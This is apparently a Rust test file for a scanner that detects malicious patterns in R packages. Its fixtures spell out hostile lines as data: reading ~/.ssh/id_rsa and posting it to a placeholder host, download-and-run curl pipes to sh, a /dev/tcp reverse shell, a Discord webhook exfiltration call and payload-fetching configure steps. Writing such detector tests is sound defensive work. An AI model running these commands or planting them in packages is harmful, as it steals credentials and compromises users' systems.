use std::time::{Duration, Instant};

use super::*;

fn rules_of(findings: Vec<Finding>) -> Vec<&'static str> {
    let mut rules: Vec<_> = findings.into_iter().map(|f| f.rule).collect();
    rules.sort_unstable();
    rules
}

/// Rule ids found in R code at `path` (relative to the package directory).
fn check(path: &str, source: &str, expected: &[&str]) {
    let mut parser = Parser::new();
    let member = Member::of(path).expect("an R file");
    let deadline = Instant::now() + Duration::from_secs(10);
    let found = scan(&mut parser, path, source.as_bytes(), member, deadline).expect("in time");
    let mut expected = expected.to_vec();
    expected.sort_unstable();
    assert_eq!(rules_of(found), expected, "{source}");
}

fn check_install(path: &str, source: &str, expected: &[&str]) {
    assert_eq!(Member::of(path), Some(Member::Install));
    let mut expected = expected.to_vec();
    expected.sort_unstable();
    assert_eq!(
        rules_of(scan_install(path, source.as_bytes())),
        expected,
        "{source}"
    );
}

#[test]
fn members_by_path() {
    assert_eq!(Member::of("configure"), Some(Member::Install));
    assert_eq!(Member::of("cleanup.win"), Some(Member::Install));
    assert_eq!(Member::of("src/Makevars.in"), Some(Member::Install));
    assert_eq!(Member::of("R/zzz.R"), Some(Member::Code));
    assert_eq!(Member::of("tools/winlibs.R"), Some(Member::Script));
    assert_eq!(Member::of("inst/configure"), None);
    assert_eq!(Member::of("DESCRIPTION"), None);
}

#[test]
fn onload_calling_processes_and_the_network() {
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  system(\"id\")\n}\n",
        &["r-onload-system"],
    );
    check(
        "R/zzz.R",
        ".onAttach <- function(...) {\n  system2('uname', '-a')\n}\n",
        &["r-onload-system"],
    );
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  p <- processx::process$new('sh', c('-c', 'id'))\n}\n",
        &["r-onload-system"],
    );
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  utils::download.file('https://example.invalid/a', tempfile())\n}\n",
        &["r-onload-download"],
    );
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  do.call('system', list('id'))\n}\n",
        &["r-onload-system"],
    );
    // The same calls in an ordinary function are what the package does when asked.
    check(
        "R/run.R",
        "run <- function(cmd) {\n  system2(cmd, stdout = TRUE)\n}\nfetch <- function(u) download.file(u, tempfile())\n",
        &[],
    );
    // A usual .onLoad.
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  op <- options()\n  op.pkg <- list(pkg.verbose = FALSE)\n  toset <- !(names(op.pkg) %in% names(op))\n  if (any(toset)) options(op.pkg[toset])\n  invisible()\n}\n",
        &[],
    );
}

#[test]
fn top_level_code_runs_at_install() {
    check("R/aaa.R", "system('id')\n", &["r-install-system"]);
    check(
        "R/aaa.R",
        "x <- readLines(url('https://example.invalid/x'))\n",
        &["r-install-download"],
    );
}

#[test]
fn code_from_urls_and_text() {
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  source('https://example.invalid/payload.R')\n}\n",
        &["r-source-url"],
    );
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  eval(parse(text = readLines('https://example.invalid/p.R')))\n}\n",
        &["r-onload-eval", "r-source-url"],
    );
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  eval(parse(text = getOption('x')))\n}\n",
        &["r-onload-eval"],
    );
    // Sourcing a file of the package is ordinary.
    check(
        "R/util.R",
        "load_helpers <- function() source(system.file('helpers.R', package = 'x'))\n",
        &[],
    );
}

#[test]
fn decoded_code_evaluated() {
    check(
        "R/util.R",
        "f <- function() {\n  code <- rawToChar(base64enc::base64decode('c3lzdGVtKCJpZCIp'))\n  eval(parse(text = code))\n}\n",
        &["r-eval-decoded"],
    );
    check(
        "R/util.R",
        "f <- function() eval(str2lang(rawToChar(as.raw(c(0x73, 0x79)))))\n",
        &["r-eval-decoded"],
    );
    check(
        "R/util.R",
        "f <- function(x) rawToChar(jsonlite::base64_dec(x))\n",
        &[],
    );
}

#[test]
fn writes_to_profiles_and_home() {
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  cat('source(\"x\")\\n', file = '~/.Rprofile', append = TRUE)\n}\n",
        &["r-write-rprofile"],
    );
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  writeLines('x', file.path(Sys.getenv('HOME'), '.hidden'))\n}\n",
        &["r-write-home"],
    );
    check(
        "R/zzz.R",
        ".onLoad <- function(libname, pkgname) {\n  writeLines('x', file.path(tempdir(), 'cache'))\n}\n",
        &[],
    );
}

#[test]
fn credentials_sent_out() {
    check(
        "R/util.R",
        "f <- function() {\n  k <- readLines('~/.ssh/id_rsa')\n  httr::POST('https://example.invalid/c', body = list(k = k))\n}\n",
        &["r-credential-exfil"],
    );
    check(
        "R/util.R",
        "f <- function() {\n  e <- Sys.getenv()\n  curl::handle_setform(h, env = paste(e))\n}\n",
        &["r-credential-exfil"],
    );
    check(
        "R/util.R",
        "token <- function() Sys.getenv('GITHUB_PAT')\n",
        &[],
    );
}

#[test]
fn commands_that_download_and_run() {
    check(
        "R/util.R",
        "f <- function() system('curl -s https://example.invalid/x.sh | sh')\n",
        &["r-download-exec"],
    );
    check(
        "R/util.R",
        "f <- function() system('bash -i >& /dev/tcp/127.0.0.1/4444 0>&1')\n",
        &["r-reverse-shell"],
    );
}

#[test]
fn install_scripts() {
    check_install(
        "configure",
        "#!/bin/sh\ncurl -fsSL https://example.invalid/setup.sh | sh\n",
        &["r-configure-remote"],
    );
    check_install(
        "configure.win",
        "\"${R_HOME}/bin${R_ARCH_BIN}/Rscript.exe\" -e \"source('https://example.invalid/x.R')\"\n",
        &["r-configure-remote"],
    );
    check_install(
        "src/Makevars",
        "all: payload\npayload:\n\twget -q http://127.0.0.1/p -O p.bin && chmod +x p.bin && ./p.bin\n",
        &["r-configure-remote"],
    );
    check_install(
        "configure",
        "#!/bin/sh\necho 'source(\"/tmp/x.R\")' >> ~/.Rprofile\n",
        &["r-write-rprofile"],
    );
    check_install(
        "configure.win",
        "curl -sSL https://example.invalid/lib.zip -o lib.zip\nunzip lib.zip\n",
        &["r-configure-download"],
    );
    // An autoconf script probing for libcurl.
    check_install(
        "configure",
        "#!/bin/sh\nPKG_CONFIG_NAME=\"libcurl\"\nPKG_LIBS=\"-lcurl\"\nif [ $? -ne 0 ]; then\n  echo \"Configuration failed: libcurl not found\"\nfi\n",
        &[],
    );
}

#[test]
fn webhooks() {
    check(
        "R/util.R",
        "f <- function(x) httr::POST('https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJ', body = x)\n",
        &["r-webhook-exfil"],
    );
}
